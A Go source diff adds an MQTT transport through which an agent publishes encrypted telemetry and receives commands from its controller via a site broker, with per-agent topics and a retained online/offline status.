@@ -0,0 +1,141 @@
+package transport
+
+import (
+	"crypto/tls"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+
+	mqtt "github.com/eclipse/paho.mqtt.golang"
+)
+
+// mqttTransport publishes through an existing site broker (mqtt:// or
+// mqtts://) instead of connecting to the C2 directly. Each agent has its own
+// topics under "mqtt_topic_prefix" (default "nop/agents"):
+//
+//	<prefix>/<agent_id>/telemetry  agent -> C2
+//	<prefix>/<agent_id>/commands   C2 -> agent
+//	<prefix>/<agent_id>/status     retained online/offline marker
+//
+// Payloads are sealed with the agent key, so the broker only sees ciphertext.
+type mqttTransport struct {
+	host     Host
+	client   mqtt.Client
+	qos      byte
+	topic    string
+	incoming chan []byte
+	lost     chan error
+}
+
+func NewMQTT(h Host) Transport {
+	return &mqttTransport{host: h}
+}
+
+func (t *mqttTransport) Dial(u *url.URL, header http.Header) error {
+	prefix := "nop/agents"
+	if val, ok := t.host.Config()["mqtt_topic_prefix"].(string); ok && val != "" {
+		prefix = strings.TrimSuffix(val, "/")
+	}
+	t.topic = prefix + "/" + t.host.AgentID()
+	if val, ok := t.host.Config()["mqtt_qos"].(float64); ok && val >= 0 && val <= 2 {
+		t.qos = byte(val)
+	} else {
+		t.qos = 1
+	}
+	t.incoming = make(chan []byte, 64)
+	t.lost = make(chan error, 1)
+
+	scheme := "tcp"
+	if u.Scheme == "mqtts" {
+		scheme = "ssl"
+	}
+	opts := mqtt.NewClientOptions().
+		AddBroker(scheme+"://"+u.Host).
+		SetClientID("nop-"+t.host.AgentID()).
+		SetCleanSession(false).
+		SetAutoReconnect(false).
+		SetConnectTimeout(t.host.Timeout("handshake_timeout", 10*time.Second)).
+		SetWill(t.topic+"/status", "offline", 1, true).
+		SetConnectionLostHandler(func(_ mqtt.Client, err error) {
+			select {
+			case t.lost <- err:
+			default:
+			}
+		})
+
+	// Broker credentials come from the URL; otherwise the agent token is used
+	if u.User != nil {
+		password, _ := u.User.Password()
+		opts.SetUsername(u.User.Username()).SetPassword(password)
+	} else {
+		opts.SetUsername(t.host.AgentID()).SetPassword(strings.TrimPrefix(header.Get("Authorization"), "Bearer "))
+	}
+	if scheme == "ssl" {
+		tlsConfig, err := t.host.Credentials().TLSConfig()
+		if err != nil {
+			return err
+		}
+		if tlsConfig == nil {
+			tlsConfig = &tls.Config{MinVersion: tls.VersionTLS12}
+		}
+		opts.SetTLSConfig(tlsConfig)
+	}
+
+	t.client = mqtt.NewClient(opts)
+	if token := t.client.Connect(); token.Wait() && token.Error() != nil {
+		return token.Error()
+	}
+	if token := t.client.Subscribe(t.topic+"/commands", t.qos, func(_ mqtt.Client, m mqtt.Message) {
+		t.incoming <- m.Payload()
+	}); token.Wait() && token.Error() != nil {
+		t.client.Disconnect(0)
+		return token.Error()
+	}
+	t.client.Publish(t.topic+"/status", 1, true, "online").Wait()
+	return nil
+}
+
+func (t *mqttTransport) Send(v interface{}) error {
+	payload, err := json.Marshal(v)
+	if err != nil {
+		return err
+	}
+	sealed, err := t.host.Seal(payload)
+	if err != nil {
+		return err
+	}
+	token := t.client.Publish(t.topic+"/telemetry", t.qos, false, sealed)
+	if timeout := t.host.Timeout("write_timeout", 10*time.Second); timeout > 0 {
+		if !token.WaitTimeout(timeout) {
+			return fmt.Errorf("mqtt publish timed out")
+		}
+	} else {
+		token.Wait()
+	}
+	return token.Error()
+}
+
+func (t *mqttTransport) Receive(v *map[string]interface{}) error {
+	select {
+	case sealed := <-t.incoming:
+		payload, err := t.host.Open(sealed)
+		if err != nil {
+			return Malformed("mqtt message rejected: %v", err)
+		}
+		if err := json.Unmarshal(payload, v); err != nil {
+			return Malformed("undecodable mqtt message: %v", err)
+		}
+		return nil
+	case err := <-t.lost:
+		return fmt.Errorf("mqtt connection lost: %v", err)
+	}
+}
+
+func (t *mqttTransport) Close() error {
+	t.client.Publish(t.topic+"/status", 1, true, "offline").WaitTimeout(2 * time.Second)
+	t.client.Disconnect(250)
+	return nil
+}